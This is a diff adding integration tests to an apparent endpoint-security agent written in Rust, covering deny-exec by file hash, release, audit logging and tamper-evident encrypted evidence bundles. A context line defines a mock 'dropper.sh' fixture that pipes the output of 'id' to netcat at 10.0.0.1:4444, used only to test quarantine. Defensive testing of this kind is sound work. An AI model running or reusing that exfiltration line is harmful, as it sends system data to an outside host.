@@ -398,6 +398,54 @@ fn deny_exec_and_quarantine_round_trip() {
     agent.cli_ok(&["release", &id]);
     assert!(run().unwrap().success(), "still denied after release");
 
+    // By hash: a copy with another inode but the same bytes is killed at its first exec (from
+    // userspace, once the agent hashed it), then refused by the kernel at the next.
+    let sleep = dir.path().join("s1");
+    std::fs::copy("/bin/sleep", &sleep).unwrap();
+    let sum = Command::new("sha256sum").arg(&sleep).output().unwrap();
+    let hash = String::from_utf8_lossy(&sum.stdout)
+        .split_whitespace()
+        .next()
+        .unwrap()
+        .to_owned();
+    let out = agent.cli_ok(&["contain", "deny-exec", "--sha256", &hash]);
+    let hid = containment_id(&out);
+    let copy = dir.path().join("s2");
+    std::fs::copy("/bin/sleep", &copy).unwrap();
+    let start_copy = |secs: &str| {
+        // argv[0] "sleep": busybox (the VM's /bin/sleep) picks its applet by name.
+        std::os::unix::process::CommandExt::arg0(&mut Command::new(&copy), "sleep")
+            .arg(secs)
+            .spawn()
+    };
+    let mut first = start_copy("30").unwrap();
+    let st = first.wait().unwrap();
+    assert_eq!(
+        st.signal(),
+        Some(9),
+        "a program with a denied hash kept running: {st:?}"
+    );
+    match start_copy("30") {
+        Err(e) => assert!(lsm && e.raw_os_error() == Some(1), "{e}"),
+        Ok(mut c) => {
+            let st = c.wait().unwrap();
+            assert!(!lsm && st.signal() == Some(9), "second exec: {st:?}");
+        }
+    }
+    let list = agent.cli_json(&["contain", "list", "--json"]);
+    assert_eq!(
+        list["listing"]["active"][0]["hash_inodes"]
+            .as_array()
+            .map(Vec::len),
+        Some(1),
+        "{list}"
+    );
+    agent.cli_ok(&["release", &hid]);
+    let mut ok = start_copy("0.2").unwrap();
+    assert!(ok.wait().unwrap().success(), "still denied after release");
+    let audit = std::fs::read_to_string(agent.state.path().join("audit.jsonl")).unwrap();
+    assert!(audit.contains("\"deny-exec-hit\""), "{audit}");
+
     // Quarantine: the file leaves, unreadable; release puts back the same bytes and mode.
     let f = dir.path().join("dropper.sh");
     let bytes = b"#!/bin/sh\necho \"$(id)\" | nc 10.0.0.1 4444\n\x00\xff\xfe";
@@ -715,4 +763,53 @@ fn playbook_check_locates_errors() {
     assert!(!out.status.success());
     let err = String::from_utf8_lossy(&out.stderr);
     assert!(err.contains("bad.yaml:3:11: unknown step `freez`"), "{err}");
+}
+
+#[test]
+fn encrypted_evidence_verifies_and_hides_its_contents() {
+    if !require_root("encrypted_evidence_verifies_and_hides_its_contents") {
+        return;
+    }
+    let cfg =
+        sensor::config::DEFAULT_TOML.replace("evidence_encrypt = false", "evidence_encrypt = true");
+    let agent = Agent::start(Some(&cfg));
+    let mut child = Command::new("sleep")
+        .arg("30")
+        .env("MY_API_TOKEN", "tok-should-not-appear")
+        .spawn()
+        .unwrap();
+    let out = agent.cli_ok(&["evidence", "collect", "--pid", &child.id().to_string()]);
+    let bundle = out
+        .lines()
+        .find_map(|l| l.strip_prefix("evidence bundle "))
+        .unwrap_or_else(|| panic!("{out}"))
+        .trim()
+        .to_owned();
+    let manifest: serde_json::Value =
+        serde_json::from_slice(&std::fs::read(Path::new(&bundle).join("manifest.json")).unwrap())
+            .unwrap();
+    assert_eq!(manifest["encrypted"], true);
+    for item in std::fs::read_dir(Path::new(&bundle).join("items")).unwrap() {
+        let bytes = std::fs::read(item.unwrap().path()).unwrap();
+        let text = String::from_utf8_lossy(&bytes);
+        assert!(
+            !text.contains("sleep") && !text.contains("MY_API_TOKEN"),
+            "plaintext at rest"
+        );
+    }
+    assert!(
+        agent
+            .cli_ok(&["evidence", "verify", &bundle])
+            .starts_with("OK:")
+    );
+    let item = Path::new(&bundle).join("items/002-environment.json");
+    let mut bytes = std::fs::read(&item).unwrap();
+    let last = bytes.len() - 1;
+    bytes[last] ^= 0x80;
+    std::fs::write(&item, &bytes).unwrap();
+    let out = agent.cli(&["evidence", "verify", &bundle]);
+    assert!(!out.status.success());
+    assert!(String::from_utf8_lossy(&out.stdout).contains("002-environment.json"));
+    let _ = child.kill();
+    let _ = child.wait();
 }
